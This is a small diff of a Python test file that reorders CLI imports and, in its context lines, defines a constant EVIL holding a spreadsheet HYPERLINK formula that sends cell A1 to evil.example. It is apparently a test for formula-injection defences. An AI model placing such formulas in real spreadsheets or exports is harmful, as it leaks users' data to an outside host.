@@ -9,9 +9,9 @@ import io
 
 from click.testing import CliRunner
 
+from cli.demo_tenant import simulator_settings
+from cli.main import cli
 from graphsim.server import GraphSimulator
-from licensedesk.cli import cli
-from licensedesk.demo import simulator_settings
 
 EVIL = '=HYPERLINK("https://evil.example/?q="&A1,"Open")'
 
